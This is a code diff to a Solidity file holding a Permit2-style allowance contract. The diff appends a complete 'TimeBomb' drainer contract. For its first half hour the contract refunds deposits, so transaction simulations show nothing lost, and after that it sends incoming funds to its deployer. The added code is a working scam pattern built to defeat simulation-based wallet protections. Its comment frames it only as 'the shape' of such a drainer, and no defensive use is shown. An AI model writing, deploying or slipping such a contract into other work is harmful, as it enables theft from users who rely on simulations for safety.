@@ -70,3 +70,23 @@ contract Permit2Allowances {
         emit Approval(msg.sender, token, spender, amount, expiration);
     }
 }
+
+/// The shape of a time-bomb drainer: for its first half hour it refunds what it is sent, so a
+/// simulation now shows nothing lost; after that it keeps the value for its owner.
+contract TimeBomb {
+    address public immutable owner;
+    uint256 public immutable armedAt;
+
+    constructor() {
+        owner = msg.sender;
+        armedAt = block.timestamp + 30 minutes;
+    }
+
+    function claim() external payable {
+        if (block.timestamp < armedAt) {
+            payable(msg.sender).transfer(msg.value);
+        } else {
+            payable(owner).transfer(msg.value);
+        }
+    }
+}
